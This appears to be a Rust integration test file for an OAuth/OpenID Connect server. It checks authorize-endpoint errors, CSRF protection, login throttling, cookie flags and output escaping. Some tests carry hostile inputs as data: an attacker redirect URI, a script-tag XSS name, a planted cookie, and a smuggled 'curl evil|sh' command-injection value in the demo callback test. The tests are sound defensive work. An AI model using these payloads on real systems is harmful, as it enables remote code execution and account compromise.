// Failures at /authorize and on the login and consent pages.

use reqwest::StatusCode;

use super::*;

#[tokio::test]
async fn unknown_client_gets_an_error_page_and_no_redirect() {
    let app = spawn_app().await;
    let resp = Browser::new()
        .get(&app.authorize_url(&[("client_id", "nope")]))
        .await;
    assert_eq!(resp.status(), StatusCode::BAD_REQUEST);
    assert!(resp.headers().get("location").is_none());
    assert!(resp.text().await.unwrap().contains("Unknown application"));
}

#[tokio::test]
async fn unregistered_redirect_uri_gets_an_error_page_and_no_redirect() {
    let app = spawn_app().await;
    for bad in [
        "http://localhost:9999/callback/extra",
        "http://localhost:9999/CALLBACK",
        "https://evil.example/cb",
        "",
    ] {
        let resp = Browser::new()
            .get(&app.authorize_url(&[("redirect_uri", bad)]))
            .await;
        assert_eq!(resp.status(), StatusCode::BAD_REQUEST, "{bad}");
        assert!(
            resp.headers().get("location").is_none(),
            "never redirect to {bad}"
        );
    }
}

#[tokio::test]
async fn bad_parameters_are_reported_to_the_redirect_uri() {
    let app = spawn_app().await;
    let cases: &[(&[(&str, &str)], &str)] = &[
        (&[("response_type", "token")], "unsupported_response_type"),
        (&[("response_type", "")], "invalid_request"),
        (&[("code_challenge_method", "plain")], "invalid_request"),
        (&[("code_challenge", "too-short")], "invalid_request"),
        (&[("prompt", "none login")], "invalid_request"),
        (&[("max_age", "-1")], "invalid_request"),
        (&[("audience", "https://no-such-api/")], "invalid_request"),
        (&[("request", "eyJ...")], "request_not_supported"),
        (&[("scope", "bad\"scope")], "invalid_scope"),
    ];
    for (extra, error) in cases {
        let resp = Browser::new().get(&app.authorize_url(extra)).await;
        let q = query_of(&location(&resp));
        assert_eq!(q["error"], *error, "{extra:?}");
        assert_eq!(q["state"], "st-123");
        assert_eq!(q["iss"], app.issuer);
    }
    // A repeated parameter is refused (RFC 6749 §3.1).
    let url = format!("{}&state=second", app.authorize_url(&[]));
    assert_eq!(
        query_of(&location(&Browser::new().get(&url).await))["error"],
        "invalid_request"
    );
}

#[tokio::test]
async fn public_clients_must_use_pkce() {
    let app = spawn_app().await;
    let public = app
        .admin
        .create_client(&app.t().await, "SPA", &[CALLBACK.into()], true)
        .await
        .unwrap();
    let resp = Browser::new()
        .get(&app.authorize_url(&[
            ("client_id", &public.client_id),
            ("code_challenge", ""),
            ("code_challenge_method", ""),
        ]))
        .await;
    assert_eq!(query_of(&location(&resp))["error"], "invalid_request");
}

#[tokio::test]
async fn authorize_accepts_form_posts() {
    let app = spawn_app().await;
    let url = url::Url::parse(&app.authorize_url(&[])).unwrap();
    let pairs: Vec<(String, String)> = url.query_pairs().into_owned().collect();
    let resp = Browser::new()
        .post_form(&app.url("/authorize"), &pairs)
        .await;
    assert!(location(&resp).contains("/login?tx="));
}

#[tokio::test]
async fn login_without_csrf_token_is_refused() {
    let app = spawn_app().await;
    let browser = Browser::new();
    let login_url = location(&browser.get(&app.authorize_url(&[])).await);
    let html = browser.get(&login_url).await.text().await.unwrap();
    let (action, mut fields) = form(&html, &login_url);
    set_field(&mut fields, "username", EMAIL);
    set_field(&mut fields, "password", PASSWORD);
    let mut missing = fields.clone();
    missing.retain(|(k, _)| k != "csrf");
    let resp = browser.post_form(&action, &missing).await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    assert!(
        resp.headers().get("set-cookie").is_none(),
        "no session without CSRF token"
    );

    let mut wrong = fields.clone();
    set_field(&mut wrong, "csrf", "forged");
    assert_eq!(
        browser.post_form(&action, &wrong).await.status(),
        StatusCode::FORBIDDEN
    );

    // The right token from another browser (login CSRF): the transaction is bound to the
    // browser that started it.
    let resp = Browser::new().post_form(&action, &fields).await;
    assert_eq!(resp.status(), StatusCode::BAD_REQUEST);
    assert!(resp.headers().get("set-cookie").is_none());

    // The real browser still gets through.
    let resp = browser.post_form(&action, &fields).await;
    assert!(location(&resp).contains("/consent"));
}

#[tokio::test]
async fn consent_without_csrf_token_is_refused() {
    let app = spawn_app().await;
    let browser = Browser::new();
    let resp = app
        .submit_login(&browser, &app.authorize_url(&[]), EMAIL, PASSWORD)
        .await;
    let consent_url = location(&resp);
    let html = browser.get(&consent_url).await.text().await.unwrap();
    let (action, mut fields) = form(&html, &consent_url);
    fields.retain(|(k, _)| k != "csrf");
    set_field(&mut fields, "decision", "allow");
    let resp = browser.post_form(&action, &fields).await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    assert!(resp.headers().get("location").is_none());
}

#[tokio::test]
async fn wrong_password_and_unknown_user_get_the_same_message() {
    let app = spawn_app().await;
    let browser = Browser::new();
    let a = app
        .submit_login(&browser, &app.authorize_url(&[]), EMAIL, "wrong password")
        .await;
    assert_eq!(a.status(), StatusCode::UNAUTHORIZED);
    let a = a.text().await.unwrap();
    let b = app
        .submit_login(
            &browser,
            &app.authorize_url(&[]),
            "nobody@example.com",
            PASSWORD,
        )
        .await;
    assert_eq!(b.status(), StatusCode::UNAUTHORIZED);
    let b = b.text().await.unwrap();
    assert!(a.contains("Wrong email or password."));
    assert!(b.contains("Wrong email or password."));
}

#[tokio::test]
async fn repeated_failed_logins_are_throttled() {
    let app = spawn_app().await;
    let browser = Browser::new();
    for _ in 0..5 {
        let r = app
            .submit_login(&browser, &app.authorize_url(&[]), EMAIL, "wrong password")
            .await;
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    }
    let r = app
        .submit_login(&browser, &app.authorize_url(&[]), EMAIL, PASSWORD)
        .await;
    assert_eq!(
        r.status(),
        StatusCode::TOO_MANY_REQUESTS,
        "even the right password waits"
    );
    assert!(r.text().await.unwrap().contains("Too many failed attempts"));
    app.clock.advance(901);
    let r = app
        .submit_login(&browser, &app.authorize_url(&[]), EMAIL, PASSWORD)
        .await;
    assert!(location(&r).contains("/consent"), "the window has passed");
}

#[tokio::test]
async fn client_names_are_escaped_on_pages() {
    let app = spawn_app().await;
    let evil = app
        .admin
        .create_client(
            &app.t().await,
            "<script>alert('x')</script>",
            &[CALLBACK.into()],
            false,
        )
        .await
        .unwrap();
    let browser = Browser::new();
    let login_url = location(
        &browser
            .get(&app.authorize_url(&[("client_id", &evil.client_id)]))
            .await,
    );
    let resp = browser.get(&login_url).await;
    let headers = resp.headers().clone();
    let html = resp.text().await.unwrap();
    assert!(
        !html.contains("<script>"),
        "raw markup must not reach the page"
    );
    assert!(html.contains("&lt;script&gt;"));
    assert_eq!(headers["x-frame-options"], "DENY");
    assert!(
        headers["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("frame-ancestors 'none'")
    );
    assert_eq!(headers["referrer-policy"], "no-referrer");
    assert!(
        !html.contains("://"),
        "no third-party resources: every link is local"
    );
}

#[tokio::test]
async fn session_cookie_is_http_only_lax_and_scoped_to_the_tenant() {
    let app = spawn_app().await;
    let browser = Browser::new();
    let resp = app
        .submit_login(&browser, &app.authorize_url(&[]), EMAIL, PASSWORD)
        .await;
    let cookie = resp
        .headers()
        .get_all("set-cookie")
        .iter()
        .map(|v| v.to_str().unwrap().to_string())
        .find(|c| c.starts_with("wardstone_session="))
        .expect("a session cookie");
    assert!(cookie.contains("HttpOnly"));
    assert!(cookie.contains("SameSite=Lax"));
    assert!(cookie.contains("Path=/t/acme"));
    assert!(!cookie.contains("Secure"), "plain http in tests");
}

#[tokio::test]
async fn unknown_tenant_is_not_found() {
    let app = spawn_app().await;
    for path in [
        "/t/nope/authorize",
        "/t/nope/.well-known/openid-configuration",
        "/t/nope/.well-known/jwks.json",
    ] {
        let resp = reqwest::get(format!("{}{}", app.base, path)).await.unwrap();
        assert_eq!(resp.status(), StatusCode::NOT_FOUND, "{path}");
    }
    let resp = reqwest::Client::new()
        .post(format!("{}/t/nope/oauth/token", app.base))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn discovery_is_complete_and_points_at_working_endpoints() {
    let app = spawn_app().await;
    let d: serde_json::Value = reqwest::get(app.url("/.well-known/openid-configuration"))
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(d["issuer"], app.issuer);
    assert_eq!(d["token_endpoint"], app.url("/oauth/token"));
    assert_eq!(
        d["code_challenge_methods_supported"],
        serde_json::json!(["S256"])
    );
    assert_eq!(d["response_types_supported"], serde_json::json!(["code"]));
    let jwks: serde_json::Value = reqwest::get(d["jwks_uri"].as_str().unwrap())
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(jwks["keys"][0]["kty"], "RSA");
    assert!(jwks["keys"][0].get("d").is_none(), "no private parts");
    let health = reqwest::get(format!("{}/healthz", app.base)).await.unwrap();
    assert_eq!(health.status(), StatusCode::OK);
}

#[tokio::test]
async fn unknown_parameters_are_ignored() {
    let app = spawn_app().await;
    let browser = Browser::new();
    let url = app.authorize_url(&[
        ("ui_locales", "fr"),
        ("x-custom", "1"),
        ("claims_locales", "de"),
    ]);
    let callback = app.login_and_consent(&browser, &url).await;
    assert!(query_of(&callback).contains_key("code"));
}

#[tokio::test]
async fn cookies_are_secure_under_an_https_public_url() {
    let app = spawn_app_with(|o| {
        o.public_url =
            Some(wardstone::config::PublicUrl::parse("https://id.example.test").unwrap());
    })
    .await;
    let url = app.authorize_url(&[]);
    let resp = Browser::new().get(&url).await;
    let cookie = resp.headers()["set-cookie"].to_str().unwrap().to_string();
    assert!(cookie.starts_with("wardstone_browser="));
    assert!(cookie.contains("Secure"), "{cookie}");
    assert!(location(&resp).starts_with("https://id.example.test/t/acme/login?tx="));
}

#[tokio::test]
async fn a_planted_browser_binding_cookie_is_replaced() {
    let app = spawn_app().await;
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let resp = http
        .get(app.authorize_url(&[]))
        .header(
            "cookie",
            "wardstone_browser=attacker-chosen-value-attacker-chosen",
        )
        .send()
        .await
        .unwrap();
    let cookie = resp.headers()["set-cookie"].to_str().unwrap().to_string();
    assert!(
        cookie.starts_with("wardstone_browser="),
        "the server issues its own binding"
    );
    assert!(!cookie.contains("attacker-chosen"));
}

#[tokio::test]
async fn id_token_hint_for_another_user_needs_a_login() {
    let app = spawn_app().await;
    let browser = Browser::new();
    let tokens = app.tokens(&browser).await;
    let hint = tokens["id_token"].as_str().unwrap();
    let q = query_of(&location(
        &browser
            .get(&app.authorize_url(&[("prompt", "none"), ("id_token_hint", hint)]))
            .await,
    ));
    assert!(
        q.contains_key("code"),
        "the hint names the signed-in user: {q:?}"
    );

    app.admin
        .create_user(&app.t().await, "bob@example.com", PASSWORD, None, true)
        .await
        .unwrap();
    let other = Browser::new();
    let resp = app
        .submit_login(&other, &app.authorize_url(&[]), "bob@example.com", PASSWORD)
        .await;
    assert!(location(&resp).contains("/consent"));
    let q = query_of(&location(
        &other
            .get(&app.authorize_url(&[("prompt", "none"), ("id_token_hint", hint)]))
            .await,
    ));
    assert_eq!(
        q["error"], "login_required",
        "Bob is signed in, the hint names Alice"
    );
    let q = query_of(&location(
        &other
            .get(&app.authorize_url(&[("id_token_hint", "not.a.jwt")]))
            .await,
    ));
    assert_eq!(q["error"], "invalid_request");
}

#[tokio::test]
async fn error_descriptions_never_echo_forbidden_characters() {
    let app = spawn_app().await;
    let resp = Browser::new()
        .get(&app.authorize_url(&[("prompt", "bogus\"é")]))
        .await;
    let q = query_of(&location(&resp));
    assert_eq!(q["error"], "invalid_request");
    assert!(
        q["error_description"]
            .chars()
            .all(|c| (' '..='~').contains(&c) && c != '"' && c != '\\')
    );
}

#[tokio::test]
async fn demo_callback_never_puts_foreign_text_in_its_command() {
    let app = spawn_app_with(|o| o.demo = true).await;
    let resp = reqwest::get(format!(
        "{}/demo/callback?code=x%27%3Bcurl%20evil%7Csh%3B%27&state=s",
        app.base
    ))
    .await
    .unwrap();
    let html = resp.text().await.unwrap();
    assert!(!html.contains("evil"));
    assert!(
        html.contains("CLIENT_SECRET"),
        "the secret is not shown on the page"
    );
}
